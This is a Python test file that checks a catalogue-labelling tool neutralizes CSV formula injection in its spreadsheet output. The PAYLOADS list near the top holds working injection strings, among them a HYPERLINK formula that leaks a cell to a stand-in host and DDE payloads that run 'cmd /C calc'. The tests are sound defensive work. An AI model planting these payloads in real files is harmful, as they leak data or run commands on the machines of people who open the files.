"""CSV injection: no cell of a CSV output is one a spreadsheet would evaluate; JSONL and Parquet keep the raw values.

A supplier's catalogue can hold ``=HYPERLINK(...)`` as a product name or ``=cmd|' /C calc'!A0`` as an ingredient;
``exolabel batch -o results.csv`` must not hand those to Excel or LibreOffice as formulas. The guard follows OWASP's
CSV-injection guidance (https://owasp.org/www-community/attacks/CSV_Injection): no cell may begin with ``=``, ``+``,
``-``, ``@``, tab, carriage return or line feed, counting the cells a spreadsheet could start inside a value at a
comma, semicolon, tab or line break. The checks read the CSV back with the ``csv`` module, as a spreadsheet would.
"""

from __future__ import annotations

import csv
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from batch_helpers import run_batch
from hypothesis import given, settings
from hypothesis import strategies as st

from exolabel.catalogue.write import COLUMNS, INT_COLUMNS, neutralize, read_records, restore

PAYLOADS = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"details")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "Serum;=1+1",
    "Serum,=1+1",
    "Serum\t@SUM(1)",
    "Serum\t=1+1",
    "'=1+1",
)
_PARTS = re.compile(r"[,;\t\n]|\r(?!\n)")
_NUMBER = re.compile(r"[+-](\d+(\.\d*)?|\.\d+)(?=[,;\t\r\n]|\Z)")


def evaluated(cell: str) -> bool:
    """Whether a spreadsheet would evaluate ``cell``, or a piece of it that it could split off as a cell."""
    starts = [0, *(m.end() for m in _PARTS.finditer(cell))]  # the cell, and each place after a separator in it
    return any(cell[i : i + 1] in ("=", "+", "-", "@", "\t", "\r", "\n") and not _NUMBER.match(cell, i) for i in starts)


def _catalogue(path: Path) -> Path:
    rows = [{"sku": p, "name": p, "ingredients": f"Water, {p}, Glycerin", "claims": p} for p in PAYLOADS]
    rows += [
        {"sku": "-5", "name": "+44 Serum", "ingredients": "=1+1, -2, Aqua", "claims": ""},  # a negative id stays
        {"sku": "A1", "name": "Plain Cream", "ingredients": "Aqua, Glycerin, Niacinamide", "claims": ""},
        {"sku": "A2", "name": "=1+1", "ingredients": "", "claims": ""},  # an error row
    ]
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=["sku", "name", "ingredients", "claims"])
        w.writeheader()
        w.writerows(rows)
    return path


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def test_no_csv_cell_would_be_evaluated_and_jsonl_keeps_the_raw_values(tmp_path: Path, capsys) -> None:
    cat = _catalogue(tmp_path / "cat.csv")
    run_batch(capsys, str(cat), "-o", str(tmp_path / "out.csv"), "-j", "1", "--fail-on", "never")
    run_batch(capsys, str(cat), "-o", str(tmp_path / "out.jsonl"), "-j", "1", "--fail-on", "never")
    rows, raw = _csv_rows(tmp_path / "out.csv"), _jsonl(tmp_path / "out.jsonl")
    assert len(rows) == len(raw) == len(PAYLOADS) + 3
    bad = [(r["row"], c, r[c]) for r in rows for c in COLUMNS if c not in INT_COLUMNS and evaluated(r[c])]
    assert bad == []
    # the raw values are in JSONL, unchanged; the CSV shows each with the apostrophe in front
    assert [r["name"] for r in raw[: len(PAYLOADS)]] == [p.strip() for p in PAYLOADS]
    assert [r["id"] for r in raw[: len(PAYLOADS)]] == [p.strip() for p in PAYLOADS]
    assert rows[0]["name"] == "'" + PAYLOADS[0] and rows[1]["id"] == "'=cmd|' /C calc'!A0"
    assert "=cmd" in raw[1]["unrecognized"] and "'=cmd" in rows[1]["unrecognized"].split("; ")
    # numbers stay numbers: the count columns, and an id that is a negative number
    assert all(r[c].isdigit() for r in rows for c in INT_COLUMNS)
    assert rows[len(PAYLOADS)]["id"] == "-5" and rows[len(PAYLOADS)]["name"] == "'+44 Serum"
    # reading the CSV back (what --resume does) gives the raw values again
    assert list(read_records(tmp_path / "out.csv")) == raw


def test_parquet_keeps_the_raw_values(tmp_path: Path, capsys) -> None:
    pytest.importorskip("pyarrow")
    cat = _catalogue(tmp_path / "cat.csv")
    run_batch(capsys, str(cat), "-o", str(tmp_path / "out.parquet"), "-j", "1", "--fail-on", "never")
    run_batch(capsys, str(cat), "-o", str(tmp_path / "out.jsonl"), "-j", "1", "--fail-on", "never")
    assert list(read_records(tmp_path / "out.parquet")) == _jsonl(tmp_path / "out.jsonl")


def test_raw_csv_writes_the_cells_unchanged(tmp_path: Path, capsys) -> None:
    cat = _catalogue(tmp_path / "cat.csv")
    run_batch(capsys, str(cat), "-o", str(tmp_path / "raw.csv"), "-j", "1", "--fail-on", "never", "--raw-csv")
    run_batch(capsys, str(cat), "-o", str(tmp_path / "out.jsonl"), "-j", "1", "--fail-on", "never")
    rows, raw = _csv_rows(tmp_path / "raw.csv"), _jsonl(tmp_path / "out.jsonl")
    assert [r["name"] for r in rows] == [r["name"] or "" for r in raw]
    assert [r["unrecognized"] for r in rows] == ["; ".join(r["unrecognized"]) for r in raw]
    assert list(read_records(tmp_path / "raw.csv", raw_csv=True)) == raw


def test_workers_write_the_same_neutralized_bytes(tmp_path: Path, capsys) -> None:
    cat = _catalogue(tmp_path / "cat.csv")
    for n in ("1", "2"):
        run_batch(capsys, str(cat), "-o", str(tmp_path / f"out{n}.csv"), "-j", n, "--fail-on", "never")
    assert (tmp_path / "out1.csv").read_bytes() == (tmp_path / "out2.csv").read_bytes()


def test_resume_refuses_a_partial_output_written_with_the_other_csv_mode(tmp_path: Path, capsys) -> None:
    cat = _catalogue(tmp_path / "cat.csv")
    out = tmp_path / "out.csv"
    from exolabel.catalogue.write import ResultWriter

    w = ResultWriter(out, {"x": 1}, raw_csv=True)
    w.start()
    w.close()
    code, _out, err = run_batch(capsys, str(cat), "-o", str(out), "-j", "1", "--resume")
    assert code == 2 and "different" in err


def test_the_real_command_neutralizes_as_a_subprocess(tmp_path: Path) -> None:
    cat = _catalogue(tmp_path / "cat.csv")
    out = tmp_path / "out.csv"
    p = subprocess.run(
        [sys.executable, "-m", "exolabel", "batch", str(cat), "-o", str(out), "--no-progress", "--fail-on", "never"],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert p.returncode == 2, p.stderr  # the row without an ingredient list could not be checked
    assert "Traceback" not in p.stderr
    assert not [c for r in _csv_rows(out) for k, c in r.items() if k not in INT_COLUMNS and evaluated(c)]


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from([*"=+-@'\t\r\n,; aZ09.", "\r\n", "é", "水"]), max_size=30).map("".join))
def test_neutralize_leaves_no_formula_and_restore_undoes_it(value: str) -> None:
    cell = neutralize(value)
    assert restore(cell) == value
    assert not evaluated(cell), (value, cell)
    if not evaluated(value) and "'" not in value:
        assert cell == value  # a value that starts no formula is written as it is


def _soffice() -> str:
    import shutil

    exe = shutil.which("soffice") or shutil.which("libreoffice")
    if exe is None:
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    return exe


@pytest.mark.parametrize(("separator", "code"), [(",", 44), (";", 59), ("tab", 9)])
def test_libreoffice_opens_the_csv_without_running_a_formula(tmp_path: Path, capsys, separator: str, code: int) -> None:
    """What a retailer does: open the CSV output in LibreOffice Calc (headless, as it converts to .xlsx), with the
    comma, or with the semicolon or tab a locale or the import dialog may choose; no cell comes in as a formula. The
    same catalogue written with --raw-csv does give formula cells, so the test can tell."""
    import openpyxl

    exe = _soffice()
    cat = _catalogue(tmp_path / "cat.csv")
    run_batch(capsys, str(cat), "-o", str(tmp_path / "safe.csv"), "-j", "1", "--fail-on", "never")
    run_batch(capsys, str(cat), "-o", str(tmp_path / "raw.csv"), "-j", "1", "--fail-on", "never", "--raw-csv")
    p = subprocess.run(
        [exe, "--headless", f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--convert-to", "xlsx",
         f"--infilter=CSV:{code},34,76,1", "--outdir", str(tmp_path), str(tmp_path / "safe.csv"),
         str(tmp_path / "raw.csv")],
        capture_output=True, text=True, timeout=600,
    )  # fmt: skip
    assert p.returncode == 0, p.stderr

    def formulas(name: str) -> list[str]:
        ws = openpyxl.load_workbook(tmp_path / name).active
        return [c.value for row in ws.iter_rows() for c in row if c.data_type == "f"]

    assert formulas("safe.xlsx") == []
    assert formulas("raw.xlsx"), "the raw CSV gave no formula cell: the check cannot tell"


def test_a_semicolon_inside_a_listed_name_survives_the_csv(tmp_path: Path, capsys) -> None:
    """Found by the fuzzer: the tokenizer keeps a ';' inside brackets, so an unrecognized name can hold one, and
    splitting the CSV list cell on '; ' gave two names. Such an item is written with '\\;' and read back whole."""
    cat = tmp_path / "cat.csv"
    cat.write_text(
        'sku,ingredients\nA1,"Aqua, Zorblax (Fragrance; Qwerty) Blend, Back\\\\slash Thing, =Zz;=Yy (1; 2)"\n',
        encoding="utf-8",
    )
    run_batch(capsys, str(cat), "-o", str(tmp_path / "out.csv"), "-j", "1", "--fail-on", "never")
    run_batch(capsys, str(cat), "-o", str(tmp_path / "out.jsonl"), "-j", "1", "--fail-on", "never")
    raw = _jsonl(tmp_path / "out.jsonl")
    assert "Zorblax (Fragrance; Qwerty) Blend" in raw[0]["unrecognized"], raw[0]["unrecognized"]
    assert list(read_records(tmp_path / "out.csv")) == raw
    cell = _csv_rows(tmp_path / "out.csv")[0]["unrecognized"]
    assert "Zorblax (Fragrance\\; Qwerty) Blend" in cell and not evaluated(cell), cell


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.sampled_from([*"=+-@'\\;, aZ\t\n"]), min_size=1, max_size=12).map("".join), max_size=5))
def test_list_cells_give_back_their_items(items: list[str]) -> None:
    from exolabel.catalogue.write import LIST_SEP, _escape, join_list, split_list, unescape

    assert [unescape(x) for x in split_list(join_list(items))] == items
    safe = LIST_SEP.join(neutralize(_escape(x)) for x in items)
    assert [unescape(restore(x)) for x in split_list(safe)] == items
    assert not evaluated(safe)
